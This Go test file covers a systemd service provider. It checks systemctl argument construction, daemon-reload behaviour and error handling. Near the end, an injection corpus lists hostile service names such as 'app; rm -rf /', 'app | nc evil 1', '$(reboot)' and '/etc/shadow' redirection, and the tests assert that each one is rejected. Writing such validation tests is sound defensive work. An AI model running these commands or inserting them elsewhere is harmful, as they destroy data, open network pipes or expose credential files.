package systemd_test

import (
	"context"
	"strings"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"github.com/ccm-fleet/ccm/providers/runner"
	"github.com/ccm-fleet/ccm/providers/systemd"
	"github.com/ccm-fleet/ccm/resources"
	"github.com/ccm-fleet/ccm/resources/servicetype"
)

type operation func(p *systemd.Provider, ctx context.Context, service string) error

var (
	start   operation = (*systemd.Provider).Start
	stop    operation = (*systemd.Provider).Stop
	restart operation = (*systemd.Provider).Restart
	enable  operation = (*systemd.Provider).Enable
	disable operation = (*systemd.Provider).Disable
	status  operation = func(p *systemd.Provider, ctx context.Context, service string) error {
		_, err := p.Status(ctx, service)
		return err
	}
)

var _ = Describe("Provider", func() {
	var fake *runner.Fake

	BeforeEach(func() {
		fake = &runner.Fake{}
	})

	DescribeTable("Operations run the exact systemctl command, after one daemon-reload",
		func(op operation, verb string) {
			fake.Expect(daemonReload, 0, "")
			want := [][]string{{"systemctl", "daemon-reload"}}
			if verb == "start" {
				expectFixture(fake, subState("nginx"), 0, "show/substate-dead")
				want = append(want, subState("nginx"))
			}
			fake.Expect(unit(verb, "nginx"), 0, "")

			Expect(op(newProvider(fake), GinkgoT().Context(), "nginx")).To(Succeed())
			Expect(fake.Verify()).To(Succeed())
			Expect(argvs(fake)).To(Equal(append(want, []string{"systemctl", verb, "--system", "--", "nginx"})))
		},
		Entry("Start: systemctl start --system -- <service> (after asking its SubState)", start, "start"),
		Entry("Stop: systemctl stop --system -- <service>", stop, "stop"),
		Entry("Restart: systemctl restart --system -- <service>", restart, "restart"),
		Entry("Enable: systemctl enable --system -- <service>", enable, "enable"),
		Entry("Disable: systemctl disable --system -- <service>", disable, "disable"),
	)

	It("runs Status as is-active then is-enabled", func() {
		fake.Expect(daemonReload, 0, "")
		expectFixture(fake, unit("is-active", "nginx"), 0, "is-active/active")
		expectFixture(fake, unit("is-enabled", "nginx"), 1, "is-enabled/disabled")

		st, err := newProvider(fake).Status(GinkgoT().Context(), "nginx")
		Expect(err).ToNot(HaveOccurred())
		Expect(fake.Verify()).To(Succeed())
		Expect(st.Ensure).To(Equal("running"))
		Expect(st.Metadata.Enabled).To(BeFalse())
	})

	// Found by the real-host specs: systemd holds a start job for a unit
	// waiting to be restarted until its RestartSec has passed (an hour in the
	// spec), so ensure running hung; a restart is done at once.
	It("restarts, not starts, a service systemd is waiting to restart after it exited (SubState auto-restart)", func() {
		fake.Expect(daemonReload, 0, "")
		expectFixture(fake, subState("nginx"), 0, "show/substate-auto-restart")
		fake.Expect(unit("restart", "nginx"), 0, "")
		Expect(newProvider(fake).Start(GinkgoT().Context(), "nginx")).To(Succeed())
		Expect(fake.Verify()).To(Succeed())
	})

	It("starts a service whose SubState systemd cannot show", func() {
		fake.Expect(daemonReload, 0, "")
		expectFixture(fake, subState("nginx"), 1, "daemon-reload/no-bus")
		fake.Expect(unit("start", "nginx"), 0, "")
		Expect(newProvider(fake).Start(GinkgoT().Context(), "nginx")).To(Succeed())
		Expect(fake.Verify()).To(Succeed())
	})

	It("bounds what it keeps of systemctl's output", func() {
		fake.Expect(daemonReload, 0, "")
		expectFixture(fake, subState("nginx"), 0, "show/substate-dead")
		fake.Expect(unit("start", "nginx"), 0, "")
		Expect(newProvider(fake).Start(GinkgoT().Context(), "nginx")).To(Succeed())
		for _, c := range fake.Calls() {
			Expect(c.MaxOutput).To(BeNumerically(">", 0))
			Expect(c.MaxOutput).To(BeNumerically("<=", 64<<10))
		}
	})

	Describe("Daemon Reload", func() {
		It("reloads once per provider instance: two Status calls, one daemon-reload (the second asks whether the unit changed on disk)", func() {
			fake.Expect(daemonReload, 0, "")
			for i := range 2 {
				if i > 0 {
					expectFixture(fake, needReload("nginx"), 0, "show/need-daemon-reload-no")
				}
				expectFixture(fake, unit("is-active", "nginx"), 0, "is-active/active")
				expectFixture(fake, unit("is-enabled", "nginx"), 0, "is-enabled/enabled")
			}
			p := newProvider(fake)
			for range 2 {
				_, err := p.Status(GinkgoT().Context(), "nginx")
				Expect(err).ToNot(HaveOccurred())
			}
			Expect(fake.Verify()).To(Succeed())

			reloads := 0
			for _, argv := range argvs(fake) {
				if strings.Join(argv, " ") == "systemctl daemon-reload" {
					reloads++
				}
			}
			Expect(reloads).To(Equal(1))
			Expect(argvs(fake)[0]).To(Equal(daemonReload), "the reload comes before the first operation")
		})

		// Found by the real-host specs: a manifest whose first service made
		// the provider reload, then whose file resource rewrote another
		// unit, restarted that unit as it was ("changed on disk").
		It("reloads again when systemd says a unit changed on disk since the first reload, before reading its state", func() {
			fake.Expect(daemonReload, 0, "")
			expectFixture(fake, unit("is-active", "other"), 0, "is-active/active")
			expectFixture(fake, unit("is-enabled", "other"), 0, "is-enabled/enabled")
			expectFixture(fake, needReload("nginx"), 0, "show/need-daemon-reload-yes")
			fake.Expect(daemonReload, 0, "")
			expectFixture(fake, unit("is-active", "nginx"), 0, "is-active/active")
			expectFixture(fake, unit("is-enabled", "nginx"), 0, "is-enabled/enabled")
			fake.Expect(unit("restart", "nginx"), 0, "")
			expectFixture(fake, needReload("nginx"), 0, "show/need-daemon-reload-no")
			expectFixture(fake, unit("is-active", "nginx"), 0, "is-active/active")
			expectFixture(fake, unit("is-enabled", "nginx"), 0, "is-enabled/enabled")

			p := newProvider(fake)
			ctx := GinkgoT().Context()
			_, err := p.Status(ctx, "other")
			Expect(err).ToNot(HaveOccurred())
			_, err = p.Status(ctx, "nginx")
			Expect(err).ToNot(HaveOccurred())
			Expect(p.Restart(ctx, "nginx")).To(Succeed())
			_, err = p.Status(ctx, "nginx")
			Expect(err).ToNot(HaveOccurred())
			Expect(fake.Verify()).To(Succeed())
		})

		It("reads the state without a reload when systemd cannot show the unit, and fails when the reload it needs fails", func() {
			fake.Expect(daemonReload, 0, "")
			expectFixture(fake, unit("is-active", "nginx"), 0, "is-active/active")
			expectFixture(fake, unit("is-enabled", "nginx"), 0, "is-enabled/enabled")
			expectFixture(fake, needReload("nginx"), 1, "daemon-reload/no-bus")
			expectFixture(fake, unit("is-active", "nginx"), 0, "is-active/active")
			expectFixture(fake, unit("is-enabled", "nginx"), 0, "is-enabled/enabled")
			expectFixture(fake, needReload("nginx"), 0, "show/need-daemon-reload-yes")
			expectFixture(fake, daemonReload, 1, "daemon-reload/no-bus")

			p := newProvider(fake)
			ctx := GinkgoT().Context()
			for range 2 {
				_, err := p.Status(ctx, "nginx")
				Expect(err).ToNot(HaveOccurred())
			}
			_, err := p.Status(ctx, "nginx")
			Expect(err).To(MatchError(systemd.ErrCommandFailed))
			Expect(err.Error()).To(HavePrefix("systemctl daemon-reload: "))
			Expect(fake.Verify()).To(Succeed())
		})

		It("reloads once across different operations and services", func() {
			fake.Expect(daemonReload, 0, "")
			expectFixture(fake, subState("nginx"), 0, "show/substate-dead")
			fake.Expect(unit("start", "nginx"), 0, "")
			fake.Expect(unit("enable", "sshd"), 0, "")
			p := newProvider(fake)
			Expect(p.Start(GinkgoT().Context(), "nginx")).To(Succeed())
			Expect(p.Enable(GinkgoT().Context(), "sshd")).To(Succeed())
			Expect(fake.Verify()).To(Succeed())
		})

		It("reloads again for each new provider instance", func() {
			f := systemd.NewFactory(fake, nil)
			for range 2 {
				fake.Expect(daemonReload, 0, "")
				fake.Expect(unit("stop", "nginx"), 0, "")
				p, err := f.New()
				Expect(err).ToNot(HaveOccurred())
				Expect(p.(*systemd.Provider).Stop(GinkgoT().Context(), "nginx")).To(Succeed())
			}
			Expect(fake.Verify()).To(Succeed())
		})

		It("fails the operation when the reload fails, and tries the reload again next time", func() {
			expectFixture(fake, daemonReload, 1, "daemon-reload/no-bus")
			fake.Expect(daemonReload, 0, "")
			expectFixture(fake, subState("nginx"), 0, "show/substate-dead")
			fake.Expect(unit("start", "nginx"), 0, "")
			p := newProvider(fake)

			err := p.Start(GinkgoT().Context(), "nginx")
			Expect(err).To(MatchError(systemd.ErrCommandFailed))
			Expect(err.Error()).To(Equal("systemctl daemon-reload: systemctl failed: exit status 1: " +
				"System has not been booted with systemd as init system (PID 1). Can't operate.; Failed to connect to bus: Host is down"))

			Expect(p.Start(GinkgoT().Context(), "nginx")).To(Succeed())
			Expect(fake.Verify()).To(Succeed())
		})
	})

	Describe("Error Handling", func() {
		It("fails an operation that exits non-zero, with systemctl's message", func() {
			fake.Expect(daemonReload, 0, "")
			expectFixture(fake, subState("nginx"), 0, "show/substate-dead")
			expectFixture(fake, unit("start", "nginx"), 5, "start/not-found")

			err := newProvider(fake).Start(GinkgoT().Context(), "nginx")
			Expect(err).To(MatchError(systemd.ErrCommandFailed))
			Expect(err.Error()).To(Equal("systemctl start --system -- nginx: systemctl failed: exit status 5: Failed to start nginx.service: Unit nginx.service not found."))
			Expect(fake.Verify()).To(Succeed())
		})

		It("bounds the systemctl message it puts in an error", func() {
			fake.Expect(daemonReload, 0, "")
			fake.Add(runner.Expectation{Argv: unit("stop", "nginx"), Result: runner.Result{ExitCode: 1, Stderr: []byte(strings.Repeat("x", 10000))}})

			err := newProvider(fake).Stop(GinkgoT().Context(), "nginx")
			Expect(err).To(MatchError(systemd.ErrCommandFailed))
			Expect(len(err.Error())).To(BeNumerically("<", 700))
		})

		DescribeTable("propagates the runner's error",
			func(op operation, argv []string) {
				fake.Expect(daemonReload, 0, "")
				if argv[1] == "start" {
					expectFixture(fake, subState("nginx"), 0, "show/substate-dead")
				}
				fake.Add(runner.Expectation{Argv: argv, Err: runner.ErrNotFound})

				err := op(newProvider(fake), GinkgoT().Context(), "nginx")
				Expect(err).To(MatchError(runner.ErrNotFound))
				Expect(err.Error()).To(HavePrefix(strings.Join(argv, " ") + ": "))
				Expect(fake.Verify()).To(Succeed())
			},
			Entry("from Status", status, unit("is-active", "nginx")),
			Entry("from Start", start, unit("start", "nginx")),
			Entry("from Disable", disable, unit("disable", "nginx")),
		)

		It("propagates the runner's error from is-enabled", func() {
			fake.Expect(daemonReload, 0, "")
			expectFixture(fake, unit("is-active", "nginx"), 0, "is-active/active")
			fake.Add(runner.Expectation{Argv: unit("is-enabled", "nginx"), Err: runner.ErrTimeout})

			_, err := newProvider(fake).Status(GinkgoT().Context(), "nginx")
			Expect(err).To(MatchError(runner.ErrTimeout))
			Expect(fake.Verify()).To(Succeed())
		})

		It("honours a cancelled context", func() {
			ctx, cancel := context.WithCancel(GinkgoT().Context())
			cancel()

			err := newProvider(fake).Start(ctx, "nginx")
			Expect(err).To(MatchError(context.Canceled))
		})
	})

	// Names that could turn a systemctl call into something else. The
	// service type rejects every one, and the provider refuses them too
	// before running anything: not even daemon-reload.
	DescribeTable("Service Name Validation: injection corpus",
		func(name string) {
			props := &servicetype.Properties{CommonProperties: resources.CommonProperties{Name: name, Ensure: "running"}}
			Expect(props.Validate()).To(MatchError(resources.ErrInvalid))

			p := newProvider(fake)
			ctx := GinkgoT().Context()
			for _, op := range []operation{status, start, stop, restart, enable, disable} {
				Expect(op(p, ctx, name)).To(MatchError(resources.ErrInvalid))
			}
			Expect(fake.Calls()).To(BeEmpty())
			Expect(fake.Verify()).To(Succeed())
		},
		Entry("empty", ""),
		Entry("command separator", "app; rm -rf /"),
		Entry("pipe", "app | nc evil 1"),
		Entry("and-list", "app && reboot"),
		Entry("background", "app & reboot"),
		Entry("command substitution", "$(reboot)"),
		Entry("backticks", "`reboot`"),
		Entry("variable", "$HOME"),
		Entry("redirection", "app > /etc/passwd"),
		Entry("input redirection", "app</etc/shadow"),
		Entry("glob", "*"),
		// systemctl reads a unit name holding *, ? or [ as a glob for
		// start, stop, restart and status: a name never holds them.
		Entry("a glob in a name", "nginx*"),
		Entry("a one-character glob", "ngin?"),
		Entry("a bracket glob", "ngin[x]"),
		Entry("brace expansion", "{a,b}"),
		Entry("quote", `app"`),
		Entry("single quote", "app'"),
		Entry("backslash escape", `app\x2dx`),
		Entry("option: --now", "--now"),
		Entry("option: -H host", "-Hhost"),
		Entry("option: --root", "--root=/tmp"),
		Entry("option: --user", "--user"),
		Entry("bare dash", "-"),
		Entry("path traversal", "../../etc/passwd"),
		Entry("absolute path", "/etc/systemd/system/evil.service"),
		Entry("template instance (@ is not allowed)", "app@instance"),
		Entry("newline", "nginx\nreboot"),
		Entry("carriage return", "nginx\rreboot"),
		Entry("tab", "nginx\treboot"),
		Entry("space", "nginx reboot"),
		Entry("NUL byte", "nginx\x00reboot"),
		Entry("non-ASCII lookalike", "ngіnx"),
		Entry("zero-width joiner", "ng\u200dinx"),
		Entry("right-to-left override", "nginx\u202e"),
		Entry("over 256 bytes", strings.Repeat("a", 257)),
	)
})

var _ = Describe("Provider.StartPending", func() {
	var fake *runner.Fake

	BeforeEach(func() {
		fake = &runner.Fake{}
		fake.Expect(daemonReload, 0, "")
	})

	DescribeTable("is true only when is-active says activating (a start job, or a restart pending)",
		func(fixture string, exitCode int, want bool) {
			expectFixture(fake, unit("is-active", "nginx"), exitCode, "is-active/"+fixture)
			got, err := newProvider(fake).StartPending(GinkgoT().Context(), "nginx")
			Expect(err).ToNot(HaveOccurred())
			Expect(got).To(Equal(want))
			Expect(fake.Verify()).To(Succeed())
		},
		Entry("activating (exit 3)", "activating", 3, true),
		Entry("inactive (exit 3)", "inactive", 3, false),
		Entry("failed (exit 3)", "failed", 3, false),
		Entry("active (exit 0)", "active", 0, false),
	)

	It("fails on output it does not know, and refuses a bad name before running anything", func() {
		expectFixture(fake, unit("is-active", "nginx"), 3, "is-active/deactivating")
		_, err := newProvider(fake).StartPending(GinkgoT().Context(), "nginx")
		Expect(err).To(MatchError(systemd.ErrInvalidIsActive))
		Expect(fake.Verify()).To(Succeed())

		fake = &runner.Fake{}
		_, err = newProvider(fake).StartPending(GinkgoT().Context(), "--now")
		Expect(err).To(MatchError(resources.ErrInvalid))
		Expect(fake.Calls()).To(BeEmpty())
	})
})
